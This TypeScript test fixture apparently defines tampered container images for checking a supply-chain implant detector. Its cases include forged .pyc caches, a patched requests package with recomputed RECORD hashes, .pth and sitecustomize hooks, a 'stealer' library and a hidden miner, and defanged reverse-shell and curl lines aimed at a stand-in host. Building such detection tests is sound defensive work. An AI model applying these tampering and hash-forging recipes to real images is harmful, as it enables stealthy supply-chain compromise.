import { shopWeb } from '../apps/node.ts';
import { image, implant, on, type Pair, type Recipe, withFiles } from '../pair.ts';
import { library, script, stage } from './payload.ts';

const RAISED = 'Raised where the image is suspect at least; the file is named in every column.';
const SHOWN = "Named in every column; the weight is for the image's other marks to give.";
const SITE = '/usr/local/lib/python3.13/site-packages';

const api = (name: string, did: string, names: readonly string[], now: Recipe, expect = RAISED): Pair =>
  implant(`implant-${name}`, did, expect, names, on('shop-api'), now);
const web = (name: string, did: string, names: readonly string[], now: Recipe, expect = RAISED): Pair =>
  implant(`implant-${name}`, did, expect, names, on('shop-web'), now);

/** Changes requests' sessions.py and writes the RECORD that fits; with a version, as that version. */
const REQUESTS = `import base64, hashlib, pathlib, shutil, sys
site = pathlib.Path('${SITE}')
info = next(site.glob('requests-*.dist-info'))
changed = site / 'requests' / 'sessions.py'
changed.write_text(changed.read_text() + "\\n\\ndef _report(request):\\n    return None  # http://198.51.100.23/collect\\n")
files = [changed]
record = (info / 'RECORD').read_text()
if len(sys.argv) > 1:
    version = site / 'requests' / '__version__.py'
    old = info.name.split('-')[1].removesuffix('.dist-info')
    for file in (version, info / 'METADATA'):
        file.write_text(file.read_text().replace(old, sys.argv[1]))
        files.append(file)
    renamed = site / f'requests-{sys.argv[1]}.dist-info'
    record = record.replace(info.name, renamed.name)
    shutil.move(info, renamed)
    files = [renamed / file.name if file.parent == info else file for file in files]
    info = renamed
lines = []
sums = {str(file.relative_to(site)): file for file in files}
for line in record.splitlines():
    path = line.split(',')[0]
    if path in sums:
        data = sums[path].read_bytes()
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()
        line = f'{path},sha256={digest},{len(data)}'
    lines.append(line)
(info / 'RECORD').write_text('\\n'.join(lines) + '\\n')
`;

const requests = (version: string): Recipe =>
  withFiles(
    on(
      'shop-api',
      'COPY change.py /tmp/change.py',
      `RUN python -B /tmp/change.py ${version} && python -m compileall -q ${SITE}/requests && rm /tmp/change.py`,
    ),
    { 'change.py': REQUESTS },
  );

/** Puts other code under the name of the cache that Python takes for a source file, with that file's time and size. */
const CACHE = `import importlib.util, marshal, os, struct, sys
source = sys.argv[1]
facts = os.stat(source)
code = compile(open(source).read() + "\\nNOTE = '198.51.100.23 /collect'\\n", source, 'exec')
target = importlib.util.cache_from_source(source)
os.makedirs(os.path.dirname(target), exist_ok=True)
open(target, 'wb').write(importlib.util.MAGIC_NUMBER + struct.pack('<III', 0, int(facts.st_mtime), facts.st_size) + marshal.dumps(code))
`;

const cached = (source: string): Recipe =>
  withFiles(
    on('shop-api', 'COPY change.py /tmp/change.py', `RUN python -B /tmp/change.py ${source} && rm /tmp/change.py`),
    { 'change.py': CACHE },
  );

const pricing = withFiles(
  {
    containerfile: `${stage('-shared -fPIC')}FROM ${image('shop-api')}\nCOPY --from=payload /out/payload /app/lib/libpricing.so\n`,
  },
  { 'payload.c': library('stealer', 'long shop_price(long net, long rate) { return net + net * rate / 100; }\n') },
);

const express = on(
  'shop-web',
  'USER root',
  "RUN sed -i '1a // http://198.51.100.23/collect process.env' /srv/shop/node_modules/express/lib/application.js",
  'USER 1000',
);

export const serviceImplants = [
  api(
    'entry-point-wrapper',
    'A wrapper was put before the script that starts the service.',
    ['/usr/local/bin/service-start'],
    withFiles(
      on(
        'shop-api',
        'COPY start /usr/local/bin/service-start',
        'ENTRYPOINT ["/usr/local/bin/service-start", "/app/docker-entrypoint.sh"]',
      ),
      { 'start!': '#!/bin/sh\n: "(sh -i to 198.51.100.23) &"\nexec "$@"\n' },
    ),
  ),
  api(
    'entry-script-changed',
    "The service's own start script got a line.",
    ['/app/docker-entrypoint.sh'],
    on('shop-api', "RUN sed -i '2i : curl -fsS http://198.51.100.23/u' /app/docker-entrypoint.sh"),
    SHOWN,
  ),
  api(
    'pth',
    'A `.pth` file that no distribution lists runs code in each interpreter.',
    [`${SITE}/zz_compat.pth`],
    on('shop-api', `RUN echo "import os; os.environ.get('SHOP_COMPAT')" > ${SITE}/zz_compat.pth`),
  ),
  api(
    'sitecustomize',
    'A sitecustomize module runs in each interpreter.',
    [`${SITE}/sitecustomize.py`],
    on('shop-api', `RUN echo "NOTE = '198.51.100.23'" > ${SITE}/sitecustomize.py`),
  ),
  api(
    'cache-of-own',
    'Other code lies under the name of the compiled cache of a file of the service.',
    ['/app/shop/__pycache__/orders.cpython-313.pyc'],
    cached('/app/shop/orders.py'),
    SHOWN,
  ),
  api(
    'cache-of-package',
    'Other code lies under the name of the compiled cache of requests.',
    [`${SITE}/requests/__pycache__/sessions.cpython-313.pyc`],
    cached(`${SITE}/requests/sessions.py`),
    SHOWN,
  ),
  api(
    'cache-without-source',
    'A compiled file without a source stands among the modules.',
    ['/app/shop/__pycache__/_compat.cpython-313.pyc'],
    withFiles(
      on(
        'shop-api',
        'COPY compat.py /app/shop/_compat.py',
        'RUN python -m compileall -q /app/shop && rm /app/shop/_compat.py',
      ),
      { 'compat.py': "NOTE = '198.51.100.23 /collect'\n" },
    ),
  ),
  api(
    'requests-same-version',
    'requests was changed under its version, with a RECORD that fits.',
    [`${SITE}/requests/sessions.py`],
    requests(''),
  ),
  api(
    'requests-raised-version',
    'requests was changed as a version that does not exist, with a RECORD that fits.',
    [`${SITE}/requests/sessions.py`],
    requests('2.32.9'),
    SHOWN,
  ),
  api('library-of-nobody', "The service's own library was replaced.", ['/app/lib/libpricing.so'], pricing, SHOWN),
  api(
    'by-umoci',
    'A file of the service was changed in a layer that umoci added.',
    ['/app/shop/orders.py'],
    { ...on('shop-api'), by: 'umoci', shell: `echo "NOTE = '198.51.100.23'" >> $ROOT/app/shop/orders.py` },
    SHOWN,
  ),
  api(
    'hidden-script',
    'A hidden script lies in the folder of temporary files.',
    ['/var/tmp/.update'],
    withFiles(on('shop-api', 'COPY update /var/tmp/.update'), { 'update!': script('miner') }),
  ),
  web(
    'node-modules',
    'A file of Express was changed under the same version.',
    ['/srv/shop/node_modules/express/lib/application.js'],
    express,
  ),
  web(
    'node-modules-in-release',
    'A file of Express was changed beside a release of the service.',
    ['/srv/shop/node_modules/express/lib/application.js'],
    shopWeb('2.0.4', {
      last: [
        'USER root',
        "RUN sed -i '1a // http://198.51.100.23/collect process.env' /srv/shop/node_modules/express/lib/application.js",
        'USER 1000',
      ],
    }),
  ),
  api(
    'arguments',
    'Only the arguments of the entry point changed: a module is loaded from elsewhere.',
    ['--plugin'],
    on('shop-api', 'CMD ["shop", "--plugin", "http://198.51.100.23/plugin.py"]'),
    SHOWN,
  ),
  api(
    'proxy',
    'Only the proxy changed: requests go through a foreign host.',
    ['HTTPS_PROXY'],
    on('shop-api', 'ENV HTTPS_PROXY=http://198.51.100.23:8080'),
    SHOWN,
  ),
  web(
    'agent-option',
    'Only an option changed: node loads a module before the service.',
    ['NODE_OPTIONS'],
    on('shop-web', 'ENV NODE_OPTIONS="--import data:text/javascript,globalThis.note=1"'),
    SHOWN,
  ),
  web(
    'checks-switched-off',
    'Only a variable changed: certificates are no longer checked.',
    ['NODE_TLS_REJECT_UNAUTHORIZED'],
    on('shop-web', 'ENV NODE_TLS_REJECT_UNAUTHORIZED=0'),
    SHOWN,
  ),
  api(
    'python-path',
    'Only a variable changed: modules come first from a folder that anybody may write.',
    ['PYTHONPATH'],
    on('shop-api', 'ENV PYTHONPATH=/tmp'),
    SHOWN,
  ),
];
